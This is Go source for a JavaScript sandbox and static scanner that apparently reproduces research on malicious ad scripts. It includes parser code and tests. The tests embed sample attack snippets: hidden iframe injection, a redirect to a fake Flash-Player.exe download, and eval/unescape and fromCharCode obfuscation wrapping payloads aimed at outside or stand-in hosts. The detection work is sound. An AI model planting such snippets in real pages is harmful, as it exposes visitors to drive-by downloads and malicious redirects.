	// Tolerate `var a = 1, b = 2` by recursing on the comma.
	if p.atPunct(",") {
		p.advance()
		next, err := p.varStatement2()
		if err != nil {
			return nil, err
		}
		p.eatSemis()
		return stmtIf{cond: boolExpr{val: true}, then: []node{stmtVar{name: name, init: init}, next}}, nil
	}
	p.eatSemis()
	return stmtVar{name: name, init: init}, nil
}

// varStatement2 parses the continuation of a comma-separated var list
// (without the leading keyword).
func (p *parser) varStatement2() (node, error) {
	if err := p.enter(); err != nil {
		return nil, err
	}
	defer p.exit()
	t := p.cur()
	if t.kind != tokIdent {
		return nil, fmt.Errorf("jsengine: expected identifier in var list at offset %d", t.pos)
	}
	name := p.advance().text
	var init node
	if p.atPunct("=") {
		p.advance()
		e, err := p.expression()
		if err != nil {
			return nil, err
		}
		init = e
	}
	if p.atPunct(",") {
		p.advance()
		next, err := p.varStatement2()
		if err != nil {
			return nil, err
		}
		return stmtIf{cond: boolExpr{val: true}, then: []node{stmtVar{name: name, init: init}, next}}, nil
	}
	return stmtVar{name: name, init: init}, nil
}

func (p *parser) ifStatement() (node, error) {
	p.advance() // if
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	cond, err := p.expression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	then, err := p.blockOrSingle()
	if err != nil {
		return nil, err
	}
	var alt []node
	if p.atIdent("else") {
		p.advance()
		if p.atIdent("if") {
			s, err := p.ifStatement()
			if err != nil {
				return nil, err
			}
			alt = []node{s}
		} else {
			alt, err = p.blockOrSingle()
			if err != nil {
				return nil, err
			}
		}
	}
	return stmtIf{cond: cond, then: then, alt: alt}, nil
}

func (p *parser) tryStatement() (node, error) {
	p.advance() // try
	body, err := p.block()
	if err != nil {
		return nil, err
	}
	st := stmtTry{body: body}
	if p.atIdent("catch") {
		p.advance()
		if p.atPunct("(") {
			p.advance()
			if p.cur().kind == tokIdent {
				st.catchName = p.advance().text
			}
			if err := p.expectPunct(")"); err != nil {
				return nil, err
			}
		}
		handler, err := p.block()
		if err != nil {
			return nil, err
		}
		st.handler = handler
	}
	// `finally` is tolerated by folding its block into the normal path.
	if p.atIdent("finally") {
		p.advance()
		fin, err := p.block()
		if err != nil {
			return nil, err
		}
		st.body = append(st.body, fin...)
	}
	return st, nil
}

func (p *parser) whileStatement() (node, error) {
	p.advance() // while
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	cond, err := p.expression()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	body, err := p.blockOrSingle()
	if err != nil {
		return nil, err
	}
	return stmtWhile{cond: cond, body: body}, nil
}

// forStatement parses the C-style three-clause form; for-in is out of
// dialect and rejected.
func (p *parser) forStatement() (node, error) {
	p.advance() // for
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	var init node
	if !p.atPunct(";") {
		s, err := p.statement() // consumes trailing ';'
		if err != nil {
			return nil, err
		}
		init = s
	} else {
		p.advance()
	}
	var cond node
	if !p.atPunct(";") {
		e, err := p.expression()
		if err != nil {
			return nil, err
		}
		cond = e
	}
	if err := p.expectPunct(";"); err != nil {
		return nil, err
	}
	var post node
	if !p.atPunct(")") {
		// The post clause is a statement without its semicolon: an
		// assignment or expression.
		s, err := p.statement()
		if err != nil {
			return nil, err
		}
		post = s
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	body, err := p.blockOrSingle()
	if err != nil {
		return nil, err
	}
	return stmtFor{init: init, cond: cond, post: post, body: body}, nil
}

func (p *parser) funcStatement() (node, error) {
	p.advance() // function
	t := p.cur()
	if t.kind != tokIdent {
		return nil, fmt.Errorf("jsengine: expected function name at offset %d", t.pos)
	}
	name := p.advance().text
	params, body, err := p.funcRest()
	if err != nil {
		return nil, err
	}
	return stmtFunc{name: name, params: params, body: body}, nil
}

func (p *parser) funcRest() (params []string, body []node, err error) {
	if err := p.expectPunct("("); err != nil {
		return nil, nil, err
	}
	for !p.atPunct(")") && !p.at(tokEOF) {
		t := p.cur()
		if t.kind == tokIdent {
			params = append(params, t.text)
		}
		p.advance()
		if p.atPunct(",") {
			p.advance()
		}
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, nil, err
	}
	body, err = p.block()
	return params, body, err
}

func (p *parser) block() ([]node, error) {
	if err := p.expectPunct("{"); err != nil {
		return nil, err
	}
	var out []node
	for !p.atPunct("}") && !p.at(tokEOF) {
		before := p.pos
		s, err := p.statement()
		if err != nil {
			return nil, err
		}
		if s != nil {
			out = append(out, s)
		}
		if p.pos == before {
			p.pos++
		}
	}
	if err := p.expectPunct("}"); err != nil {
		return nil, err
	}
	return out, nil
}

func (p *parser) blockOrSingle() ([]node, error) {
	if p.atPunct("{") {
		return p.block()
	}
	s, err := p.statement()
	if err != nil {
		return nil, err
	}
	if s == nil {
		return nil, nil
	}
	return []node{s}, nil
}

// Expression parsing: ternary > or > and > equality > relational >
// additive > multiplicative > unary > postfix (call/member/index) >
// primary.

func (p *parser) expression() (node, error) { return p.ternary() }

func (p *parser) ternary() (node, error) {
	if err := p.enter(); err != nil {
		return nil, err
	}
	defer p.exit()
	cond, err := p.orExpr()
	if err != nil {
		return nil, err
	}
	if !p.atPunct("?") {
		return cond, nil
	}
	p.advance()
	then, err := p.ternary()
	if err != nil {
		return nil, err
	}
	if err := p.expectPunct(":"); err != nil {
		return nil, err
	}
	alt, err := p.ternary()
	if err != nil {
		return nil, err
	}
	return condExpr{cond: cond, then: then, alt: alt}, nil
}

func (p *parser) orExpr() (node, error) {
	return p.binLevel([]string{"||"}, p.andExpr)
}

func (p *parser) andExpr() (node, error) {
	return p.binLevel([]string{"&&"}, p.eqExpr)
}

func (p *parser) eqExpr() (node, error) {
	return p.binLevel([]string{"===", "!==", "==", "!="}, p.relExpr)
}

func (p *parser) relExpr() (node, error) {
	return p.binLevel([]string{"<=", ">=", "<", ">"}, p.addExpr)
}

func (p *parser) addExpr() (node, error) {
	return p.binLevel([]string{"+", "-"}, p.mulExpr)
}

func (p *parser) mulExpr() (node, error) {
	return p.binLevel([]string{"*", "/", "%"}, p.unary)
}

func (p *parser) binLevel(ops []string, next func() (node, error)) (node, error) {
	l, err := next()
	if err != nil {
		return nil, err
	}
	for {
		matched := ""
		for _, op := range ops {
			if p.atPunct(op) {
				matched = op
				break
			}
		}
		if matched == "" {
			return l, nil
		}
		p.advance()
		r, err := next()
		if err != nil {
			return nil, err
		}
		l = binExpr{op: matched, l: l, r: r}
	}
}

func (p *parser) unary() (node, error) {
	if err := p.enter(); err != nil {
		return nil, err
	}
	defer p.exit()
	if p.atPunct("!") || p.atPunct("-") {
		op := p.advance().text
		x, err := p.unary()
		if err != nil {
			return nil, err
		}
		return unaryExpr{op: op, x: x}, nil
	}
	if p.atPunct("++") || p.atPunct("--") {
		op := p.advance().text
		x, err := p.unary()
		if err != nil {
			return nil, err
		}
		switch x.(type) {
		case identExpr, memberExpr, indexExpr:
			return incExpr{target: x, op: op, prefix: true}, nil
		}
		return x, nil
	}
	if p.atIdent("typeof") {
		p.advance()
		x, err := p.unary()
		if err != nil {
			return nil, err
		}
		return unaryExpr{op: "typeof", x: x}, nil
	}
	if p.atIdent("new") {
		p.advance()
		ctor, err := p.postfix()
		if err != nil {
			return nil, err
		}
		// `new X(args)` parses args as part of postfix; unwrap one call.
		if c, ok := ctor.(callExpr); ok {
			return newExpr{ctor: c.fn, args: c.args}, nil
		}
		return newExpr{ctor: ctor}, nil
	}
	return p.postfix()
}

func (p *parser) postfix() (node, error) {
	e, err := p.primary()
	if err != nil {
		return nil, err
	}
	for {
		switch {
		case p.atPunct("."):
			p.advance()
			t := p.cur()
			if t.kind != tokIdent {
				return nil, fmt.Errorf("jsengine: expected property name at offset %d", t.pos)
			}
			p.advance()
			e = memberExpr{obj: e, prop: t.text}
		case p.atPunct("["):
			p.advance()
			idx, err := p.expression()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct("]"); err != nil {
				return nil, err
			}
			e = indexExpr{obj: e, index: idx}
		case p.atPunct("("):
			args, err := p.callArgs()
			if err != nil {
				return nil, err
			}
			e = callExpr{fn: e, args: args}
		case p.atPunct("++") || p.atPunct("--"):
			op := p.advance().text
			switch e.(type) {
			case identExpr, memberExpr, indexExpr:
				e = incExpr{target: e, op: op}
			default:
				// Postfix on a non-lvalue: tolerated as a no-op.
			}
		default:
			return e, nil
		}
	}
}

func (p *parser) callArgs() ([]node, error) {
	if err := p.expectPunct("("); err != nil {
		return nil, err
	}
	var args []node
	for !p.atPunct(")") && !p.at(tokEOF) {
		a, err := p.expression()
		if err != nil {
			return nil, err
		}
		args = append(args, a)
		if p.atPunct(",") {
			p.advance()
		}
	}
	if err := p.expectPunct(")"); err != nil {
		return nil, err
	}
	return args, nil
}

func (p *parser) primary() (node, error) {
	t := p.cur()
	switch t.kind {
	case tokString:
		p.advance()
		return stringExpr{val: t.text}, nil
	case tokNumber:
		p.advance()
		v, err := parseJSNumber(t.text)
		if err != nil {
			return nil, fmt.Errorf("jsengine: bad number %q at offset %d", t.text, t.pos)
		}
		return numberExpr{val: v}, nil
	case tokIdent:
		switch t.text {
		case "true":
			p.advance()
			return boolExpr{val: true}, nil
		case "false":
			p.advance()
			return boolExpr{val: false}, nil
		case "null", "undefined":
			p.advance()
			return identExpr{name: "undefined"}, nil
		case "function":
			p.advance()
			// Anonymous function expression. A name is tolerated.
			if p.cur().kind == tokIdent {
				p.advance()
			}
			params, body, err := p.funcRest()
			if err != nil {
				return nil, err
			}
			return funcExpr{params: params, body: body}, nil
		}
		p.advance()
		return identExpr{name: t.text}, nil
	case tokPunct:
		switch t.text {
		case "(":
			p.advance()
			e, err := p.expression()
			if err != nil {
				return nil, err
			}
			if err := p.expectPunct(")"); err != nil {
				return nil, err
			}
			return e, nil
		case "[":
			p.advance()
			var elems []node
			for !p.atPunct("]") && !p.at(tokEOF) {
				e, err := p.expression()
				if err != nil {
					return nil, err
				}
				elems = append(elems, e)
				if p.atPunct(",") {
					p.advance()
				}
			}
			if err := p.expectPunct("]"); err != nil {
				return nil, err
			}
			return arrayExpr{elems: elems}, nil
		case "{":
			return p.objectLiteral()
		}
	}
	return nil, fmt.Errorf("jsengine: unexpected token %q at offset %d", t.text, t.pos)
}

// objectLiteral parses { key: value, ... }; keys may be identifiers,
// strings or numbers.
func (p *parser) objectLiteral() (node, error) {
	if err := p.expectPunct("{"); err != nil {
		return nil, err
	}
	var obj objectExpr
	for !p.atPunct("}") && !p.at(tokEOF) {
		t := p.cur()
		var key string
		switch t.kind {
		case tokIdent, tokString, tokNumber:
			key = t.text
			p.advance()
		default:
			return nil, fmt.Errorf("jsengine: bad object key %q at offset %d", t.text, t.pos)
		}
		if err := p.expectPunct(":"); err != nil {
			return nil, err
		}
		v, err := p.expression()
		if err != nil {
			return nil, err
		}
		obj.keys = append(obj.keys, key)
		obj.vals = append(obj.vals, v)
		if p.atPunct(",") {
			p.advance()
		}
	}
	if err := p.expectPunct("}"); err != nil {
		return nil, err
	}
	return obj, nil
}

func parseJSNumber(s string) (float64, error) {
	if strings.HasPrefix(s, "0x") || strings.HasPrefix(s, "0X") {
		v, err := strconv.ParseUint(s[2:], 16, 64)
		return float64(v), err
	}
	return strconv.ParseFloat(s, 64)
}
