package jsengine

import (
	"strings"
	"testing"
	"testing/quick"
)

func mustTrace(t *testing.T, src string) *Trace {
	t.Helper()
	tr, err := Execute(src)
	if err != nil {
		t.Fatalf("Execute error: %v\nsource:\n%s", err, src)
	}
	return tr
}

func TestBasicArithmeticAndVars(t *testing.T) {
	tr := mustTrace(t, `
var a = 2 + 3 * 4;
var b = "x" + a;
document.write(b);
`)
	if len(tr.Writes) != 1 || tr.Writes[0] != "x14" {
		t.Fatalf("writes = %v, want [x14]", tr.Writes)
	}
}

func TestDocumentWriteIframe(t *testing.T) {
	// The paper's Code 3 shape: dynamically loaded iframe.
	tr := mustTrace(t, `
document.write('<iframe allowtransparency="true" scrolling="no" frameborder="0" width="1" height="1" src="http://t.qservz.com/ai.aspx?tc=407c"></iframe>');
`)
	frames := tr.InjectedIframes()
	if len(frames) != 1 {
		t.Fatalf("injected iframes = %v", frames)
	}
	if !strings.Contains(frames[0], "t.qservz.com") {
		t.Fatalf("iframe content lost: %q", frames[0])
	}
}

func TestWindowLocationAssignment(t *testing.T) {
	tr := mustTrace(t, `window.location.href = "http://www.broadstoragewindow.com/c?x=3yqY&downloadAs=Flash-Player.exe";`)
	if len(tr.Navigations) != 1 {
		t.Fatalf("navigations = %v", tr.Navigations)
	}
	if len(tr.Downloads) != 1 {
		t.Fatalf("downloads = %v (an .exe navigation is a download)", tr.Downloads)
	}
}

func TestBareLocationAssignment(t *testing.T) {
	tr := mustTrace(t, `location = "http://evil.example/landing";`)
	if len(tr.Navigations) != 1 || tr.Navigations[0] != "http://evil.example/landing" {
		t.Fatalf("navigations = %v", tr.Navigations)
	}
}

func TestDocumentLocationAssignment(t *testing.T) {
	tr := mustTrace(t, `document.location = "http://evil.example/x";`)
	if len(tr.Navigations) != 1 {
		t.Fatalf("navigations = %v", tr.Navigations)
	}
}

func TestEvalUnescapeOneLayer(t *testing.T) {
	payload := `document.write('<iframe src="http://evil.example/i" width="1" height="1"></iframe>');`
	obf := `eval(unescape("` + Escape(payload) + `"));`
	tr := mustTrace(t, obf)
	if tr.Evals != 1 || tr.EvalDepth != 1 {
		t.Fatalf("evals=%d depth=%d", tr.Evals, tr.EvalDepth)
	}
	if len(tr.InjectedIframes()) != 1 {
		t.Fatalf("obfuscated payload not executed: %+v", tr)
	}
}

func TestEvalNestedLayers(t *testing.T) {
	payload := `window.location.href = "http://final.example/";`
	layer1 := `eval(unescape("` + Escape(payload) + `"));`
	layer2 := `eval(unescape("` + Escape(layer1) + `"));`
	layer3 := `eval(unescape("` + Escape(layer2) + `"));`
	tr := mustTrace(t, layer3)
	if tr.EvalDepth != 3 {
		t.Fatalf("EvalDepth = %d, want 3", tr.EvalDepth)
	}
	if len(tr.Navigations) != 1 || tr.Navigations[0] != "http://final.example/" {
		t.Fatalf("navigations = %v", tr.Navigations)
	}
}

func TestFromCharCodeDeobfuscation(t *testing.T) {
	payload := `document.write("<iframe src='http://c.example/x'></iframe>");`
	var parts []string
	for i := 0; i < len(payload); i++ {
		parts = append(parts, itoa(int(payload[i])))
	}
	src := `eval(String.fromCharCode(` + strings.Join(parts, ",") + `));`
	tr := mustTrace(t, src)
	if len(tr.InjectedIframes()) != 1 {
		t.Fatalf("fromCharCode payload not executed: %+v", tr)
	}
}

func itoa(v int) string {
	if v == 0 {
		return "0"
	}
	var b [8]byte
	i := len(b)
	for v > 0 {
		i--
		b[i] = byte('0' + v%10)
		v /= 10
	}
	return string(b[i:])
}

func TestAtobDeobfuscation(t *testing.T) {
	tr := mustTrace(t, `eval(atob("d2luZG93LmxvY2F0aW9uLmhyZWYgPSAiaHR0cDovL2IuZXhhbXBsZS8iOw=="));`)
	if len(tr.Navigations) != 1 || tr.Navigations[0] != "http://b.example/" {
		t.Fatalf("navigations = %v", tr.Navigations)
	}
}

func TestExternalInterfaceCalls(t *testing.T) {
	// The paper's Code 6 glue, as seen from the JS side.
	tr := mustTrace(t, `
ExternalInterface.call("AdFlash.onClick");
ExternalInterface.call("window.NqPnfu");
`)
	if len(tr.ExternalCalls) != 2 {
		t.Fatalf("external calls = %v", tr.ExternalCalls)
	}
	if tr.ExternalCalls[0] != "AdFlash.onClick" {
		t.Fatalf("first call = %q", tr.ExternalCalls[0])
	}
}

func TestWindowOpenPopup(t *testing.T) {
	tr := mustTrace(t, `window.open("http://ads.example/pop?id=1");`)
	if len(tr.Popups) != 1 || !strings.Contains(tr.Popups[0], "ads.example") {
		t.Fatalf("popups = %v", tr.Popups)
	}
}

func TestFingerprintingDetection(t *testing.T) {
	tr := mustTrace(t, `
var ua = navigator.userAgent;
var w = screen.width;
document.addEventListener("mousemove", function() { track(); });
`)
	if len(tr.FingerprintReads) < 3 {
		t.Fatalf("fingerprint reads = %v, want >= 3", tr.FingerprintReads)
	}
}

func TestEventHandlerPayloadFires(t *testing.T) {
	// Mouse handlers that open popups must have their payload traced.
	tr := mustTrace(t, `
addEventListener("mousedown", function() {
  window.open("http://pop.example/");
});
`)
	if len(tr.Popups) != 1 {
		t.Fatalf("handler payload not fired: %+v", tr)
	}
}

func TestSetTimeoutStringExecutes(t *testing.T) {
	tr := mustTrace(t, `setTimeout('document.write("<iframe src=\'http://x.example\'></iframe>")', 100);`)
	if tr.Timeouts != 1 || len(tr.InjectedIframes()) != 1 {
		t.Fatalf("timeouts=%d writes=%v", tr.Timeouts, tr.Writes)
	}
}

func TestSetTimeoutFunctionExecutes(t *testing.T) {
	tr := mustTrace(t, `setTimeout(function() { window.open("http://pop.example/"); }, 50);`)
	if len(tr.Popups) != 1 {
		t.Fatalf("popups = %v", tr.Popups)
	}
}

func TestUserFunctions(t *testing.T) {
	tr := mustTrace(t, `
function buildUrl(host, path) {
  return "http://" + host + "/" + path;
}
window.location.href = buildUrl("evil.example", "landing?x=1");
`)
	if len(tr.Navigations) != 1 || tr.Navigations[0] != "http://evil.example/landing?x=1" {
		t.Fatalf("navigations = %v", tr.Navigations)
	}
}

func TestIfElseBranching(t *testing.T) {
	tr := mustTrace(t, `
var x = 5;
if (x > 3) { document.write("big"); } else { document.write("small"); }
if (x == "5") { document.write("loose"); }
`)
	if len(tr.Writes) != 2 || tr.Writes[0] != "big" || tr.Writes[1] != "loose" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestCloakingConditional(t *testing.T) {
	// Environment-sensitive malware: only fires for non-bot UAs. Our
	// sandbox reports a browser-like UA so the payload fires (Rozzle-style
	// de-cloaking would explore both paths; we pick the browser path).
	tr := mustTrace(t, `
if (navigator.userAgent.indexOf("bot") == -1) {
  document.write('<iframe src="http://hidden.example/"></iframe>');
}
`)
	if len(tr.InjectedIframes()) != 1 {
		t.Fatalf("cloaked payload did not fire: %+v", tr)
	}
	if len(tr.FingerprintReads) == 0 {
		t.Fatal("navigator.userAgent read not recorded")
	}
}

func TestStringMethods(t *testing.T) {
	tr := mustTrace(t, `
var s = "HELLO world";
document.write(s.toLowerCase());
document.write(s.substring(0, 5));
document.write(s.charAt(6));
document.write(s.replace("world", "there"));
document.write(s.indexOf("world"));
document.write(s.split(" ")[1]);
`)
	want := []string{"hello world", "HELLO", "w", "HELLO there", "6", "world"}
	if len(tr.Writes) != len(want) {
		t.Fatalf("writes = %v", tr.Writes)
	}
	for i := range want {
		if tr.Writes[i] != want[i] {
			t.Errorf("write[%d] = %q, want %q", i, tr.Writes[i], want[i])
		}
	}
}

func TestCharCodeRoundTrip(t *testing.T) {
	f := func(payload string) bool {
		if len(payload) == 0 || len(payload) > 64 {
			return true
		}
		// Keep ASCII printable to avoid rune/byte mismatches in this
		// byte-oriented round trip.
		for i := 0; i < len(payload); i++ {
			if payload[i] < 32 || payload[i] > 126 {
				return true
			}
		}
		esc := Escape(payload)
		tr, err := Execute(`document.write(unescape("` + esc + `"));`)
		if err != nil {
			return false
		}
		return len(tr.Writes) == 1 && tr.Writes[0] == payload
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestEvalDepthLimit(t *testing.T) {
	// Build a 20-deep eval tower; execution must stop at the depth cap
	// with an error, not hang or recurse forever.
	src := `document.write("done");`
	for i := 0; i < 20; i++ {
		src = `eval(unescape("` + Escape(src) + `"));`
	}
	_, err := Execute(src)
	if err == nil {
		t.Fatal("expected eval depth error")
	}
}

func TestStepLimit(t *testing.T) {
	// A recursion bomb must hit the step limiter.
	_, err := Execute(`
function f() { return f(); }
f();
`)
	if err == nil {
		t.Fatal("expected step-limit error on unbounded recursion")
	}
}

func TestParseErrorsDontPanic(t *testing.T) {
	cases := []string{
		"",
		"var",
		"var = 3",
		"}{",
		"if (",
		"((((((",
		"document.write(",
		`"unterminated`,
		"@#$%^&",
		"a.b.c.d.e.f = =",
	}
	for _, src := range cases {
		if _, err := Execute(src); err == nil {
			// Some of these parse to empty programs, which is fine; the
			// requirement is only no panic.
			continue
		}
	}
}

func TestUnknownAPIsAreNoOps(t *testing.T) {
	tr := mustTrace(t, `
jQuery("#x").hide();
ga('create', 'UA-54970982-1', 'auto');
ga('send', 'pageview');
document.write("survived");
`)
	if len(tr.Writes) != 1 || tr.Writes[0] != "survived" {
		t.Fatalf("writes = %v; unknown APIs must not abort execution", tr.Writes)
	}
}

func TestGoogleAnalyticsFalsePositiveShape(t *testing.T) {
	// The paper's Code 8: the GA loader must execute cleanly and produce
	// no malicious trace events.
	tr := mustTrace(t, `
(function(i,s,o,g,r){i['GoogleAnalyticsObject']=r;})(window,document,'script','//www.google-analytics.com/analytics.js','ga');
ga('create', 'UA-54970982-1', 'auto');
ga('send', 'pageview');
`)
	if len(tr.Writes) != 0 || len(tr.Navigations) != 0 || len(tr.Popups) != 0 {
		t.Fatalf("GA snippet produced malicious-looking trace: %+v", tr)
	}
}

func TestVarCommaList(t *testing.T) {
	tr := mustTrace(t, `var a = 1, b = 2, c = a + b; document.write(c);`)
	if len(tr.Writes) != 1 || tr.Writes[0] != "3" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestTernary(t *testing.T) {
	tr := mustTrace(t, `var x = 1 > 0 ? "yes" : "no"; document.write(x);`)
	if len(tr.Writes) != 1 || tr.Writes[0] != "yes" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestArraysAndIndexing(t *testing.T) {
	tr := mustTrace(t, `
var hosts = ["a.example", "b.example", "c.example"];
document.write(hosts[1]);
document.write(hosts.length);
`)
	if len(tr.Writes) != 2 || tr.Writes[0] != "b.example" || tr.Writes[1] != "3" {
		t.Fatalf("writes = %v", tr.Writes)
	}
}

func TestStaticScanObfuscationSignals(t *testing.T) {
	payload := `document.write('<iframe src="http://x/"></iframe>');`
	obf := `eval(unescape("` + Escape(payload) + `"));`
	r := StaticScan(obf)
	if !r.HasEval || !r.HasUnescape {
		t.Fatalf("static scan missed eval/unescape: %+v", r)
	}
	if !r.Obfuscated() {
		t.Fatalf("Obfuscated() = false for eval+unescape: %+v", r)
	}
	plain := StaticScan(`var x = 1 + 2; console.log(x);`)
	if plain.Obfuscated() {
		t.Fatalf("plain code flagged obfuscated: %+v", plain)
	}
}

func TestStaticScanLocationAndWrite(t *testing.T) {
	r := StaticScan(`window.location.href = "http://a/"; document.write('<iframe src="x">');`)
	if !r.SetsLocation {
		t.Fatal("SetsLocation not detected")
	}
	if !r.WritesMarkup {
		t.Fatal("WritesMarkup not detected")
	}
	r2 := StaticScan(`var x = location.hostname;`)
	if r2.SetsLocation {
		t.Fatal("location read misflagged as assignment")
	}
}

func TestStaticScanExternalInterface(t *testing.T) {
	r := StaticScan(`ExternalInterface.call("AdFlash.onClick");`)
	if !r.ExternalInterface {
		t.Fatal("ExternalInterface not detected")
	}
}

func TestEntropyOrdering(t *testing.T) {
	plain := `var total = 0; for each item, add the item to the total and write it out;`
	var packedBytes []byte
	for i := 0; i < 512; i++ {
		packedBytes = append(packedBytes, byte(i*37+11)) // covers all 256 values
	}
	packed := string(packedBytes)
	if Entropy(plain) >= Entropy(packed) {
		t.Fatalf("entropy(plain)=%v >= entropy(packed)=%v", Entropy(plain), Entropy(packed))
	}
	if Entropy("") != 0 {
		t.Fatal("entropy of empty string must be 0")
	}
}

func TestAnalyzeStaticOnlyMissesObfuscatedBehaviour(t *testing.T) {
	// This asymmetry is the point of the sandbox ablation: the payload
	// URL appears in no static token, only in the dynamic trace.
	payload := `document.write('<iframe src="http://deep-hidden.example/x" width="1"></iframe>');`
	obf := `eval(unescape("` + Escape(payload) + `"));`

	static := Analyze(obf, Options{Sandbox: false})
	if static.Trace != nil {
		t.Fatal("static-only analysis must not produce a trace")
	}
	if strings.Contains(obf, "deep-hidden.example") {
		t.Fatal("test is broken: URL visible in source")
	}

	dyn := Analyze(obf, Options{Sandbox: true})
	if dyn.Trace == nil || len(dyn.Trace.InjectedIframes()) != 1 {
		t.Fatalf("sandbox analysis missed the injected iframe: %+v", dyn)
	}
}

func TestExecuteDeterministic(t *testing.T) {
	src := `
var u = "http://h" + Math.floor(Math.random() * 100) + ".example/";
window.open(u);
`
	tr1 := mustTrace(t, src)
	tr2 := mustTrace(t, src)
	if tr1.Popups[0] != tr2.Popups[0] {
		t.Fatalf("sandbox not deterministic: %q vs %q", tr1.Popups[0], tr2.Popups[0])
	}
}

func BenchmarkExecutePlain(b *testing.B) {
	src := `
var parts = ["a", "b", "c", "d"];
var out = "";
out = out + parts[0] + parts[1] + parts[2] + parts[3];
document.write("<div>" + out + "</div>");
`
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := Execute(src); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkExecuteObfuscated3Layers(b *testing.B) {
	src := `document.write('<iframe src="http://x.example/"></iframe>');`
	for i := 0; i < 3; i++ {
		src = `eval(unescape("` + Escape(src) + `"));`
	}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := Execute(src); err != nil {
			b.Fatal(err)
		}
	}
}

func BenchmarkStaticScan(b *testing.B) {
	src := `eval(unescape("` + Escape(`document.write('<iframe src="http://x/">');`) + `"));`
	b.SetBytes(int64(len(src)))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		StaticScan(src)
	}
}
