package jsengine

import (
	"reflect"
	"testing"
)

// fuzzBudget maps raw fuzz integers onto a valid (small, varied) budget.
// Wall is deliberately zero: execution is pure fuel/heap/output-bounded,
// so both runs of the determinism check see the same world.
func fuzzBudget(fuel, heap, out uint32, depth uint8) Budget {
	return Budget{
		Fuel:        int64(fuel % 200_000),
		HeapBytes:   int64(heap % (1 << 22)),
		OutputBytes: int64(out % (1 << 20)),
		EvalDepth:   int(depth % 32),
		Wall:        0,
	}
}

// FuzzSandboxTermination is the sandbox's core proof obligation: for ANY
// source and ANY budget, ExecuteBudget terminates with either success or
// a structured code — never a panic, never a hang (the fuel budget is the
// termination oracle: charging is monotone, so bounded fuel means bounded
// work) — and is deterministic for the (src, budget) pair.
func FuzzSandboxTermination(f *testing.F) {
	for _, src := range []string{
		"",
		"var x = 1;",
		"var i = 0; while (true) { i = i + 1; }",
		"try { while (true) { } } catch (e) { while (true) { } }",
		`var s = "aaaaaaaa"; while (true) { s = s + s; }`,
		"var a = []; a[100000000] = 1;",
		`var i = 0; while (i >= 0) { document.write("xxxxxxxxxx"); i = i + 1; }`,
		`function f() { eval("f()"); } f();`,
		`eval(unescape("document.write%281%29"));`,
		`function f(n) { return f(n + 1); } f(0);`,
		"var a = [1]; a[1] = a; document.write(a);",
		`var s = "%41%42"; document.write(unescape(s) + escape(s) + atob("aGk=") + btoa("hi"));`,
		"(function() { (function() { (function() { var x = [[[[[1]]]]]; })(); })(); })();",
		"for (var i = 0; i < 10; i = i + 1) { for (var j = 0; j < 10; j = j + 1) { } }",
		`var o = { a: { b: { c: 1 } } }; document.write(o.a.b.c + "x".split("").length);`,
		"} not a program {",
	} {
		f.Add(src, uint32(500), uint32(4096), uint32(512), uint8(4))
		f.Add(src, uint32(200_000), uint32(1<<21), uint32(1<<19), uint8(16))
		f.Add(src, uint32(0), uint32(0), uint32(0), uint8(0))
	}
	f.Fuzz(func(t *testing.T, src string, fuel, heap, out uint32, depth uint8) {
		b := fuzzBudget(fuel, heap, out, depth)
		tr, err := ExecuteBudget(src, b)
		if tr == nil {
			t.Fatal("no trace returned")
		}
		if err != nil {
			if _, ok := CodeOf(err); !ok {
				t.Fatalf("unstructured error escaped: %v", err)
			}
		}
		if tr.FuelUsed > b.Fuel {
			t.Fatalf("FuelUsed %d exceeds fuel budget %d", tr.FuelUsed, b.Fuel)
		}
		tr2, err2 := ExecuteBudget(src, b)
		if !reflect.DeepEqual(tr, tr2) {
			t.Fatalf("trace differs across runs of the same (src, budget)")
		}
		if (err == nil) != (err2 == nil) || (err != nil && err.Error() != err2.Error()) {
			t.Fatalf("error differs across runs: %v vs %v", err, err2)
		}
	})
}

// FuzzEvalDepth builds eval towers of arbitrary depth against arbitrary
// depth budgets: within budget the tower unwinds cleanly, beyond it the
// engine must return a structured code — the Go stack must never be the
// limiting resource.
func FuzzEvalDepth(f *testing.F) {
	f.Add(uint8(3), uint8(8), "document.write(1);")
	f.Add(uint8(20), uint8(4), "var x = 2;")
	f.Add(uint8(31), uint8(0), "")
	f.Add(uint8(12), uint8(16), `var s = "y"; document.write(s + s);`)
	f.Fuzz(func(t *testing.T, layers, depthBudget uint8, payload string) {
		n := int(layers % 40)
		src := payload
		for i := 0; i < n; i++ {
			src = `eval(unescape("` + Escape(src) + `"));`
			if len(src) > 1<<20 {
				t.Skip("tower outgrew the interesting range")
			}
		}
		b := Budget{
			Fuel:        1 << 22,
			HeapBytes:   1 << 26,
			OutputBytes: 1 << 20,
			EvalDepth:   int(depthBudget % 32),
			Wall:        0,
		}
		_, err := ExecuteBudget(src, b)
		if err != nil {
			if _, ok := CodeOf(err); !ok {
				t.Fatalf("unstructured error escaped: %v", err)
			}
		}
	})
}
