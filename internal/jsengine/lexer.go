// Package jsengine implements a miniature JavaScript static analyzer and
// sandbox interpreter — the reproduction's ADSandbox/Rozzle analog and the
// dynamic half of the Quttera-style heuristic scanner.
//
// Malicious JavaScript on traffic exchanges is frequently obfuscated
// (eval/unescape/fromCharCode layers) precisely to defeat static scanning;
// the paper notes that "some JavaScript code snippets were obfuscated,
// which required execution analysis in a virtual machine environment". The
// sandbox interprets a constrained-but-real JS dialect, peeling obfuscation
// layers by actually executing them, and records a behaviour trace: HTML
// written via document.write (dynamic iframe injection), navigations via
// window.location (suspicious redirection / deceptive download), popups,
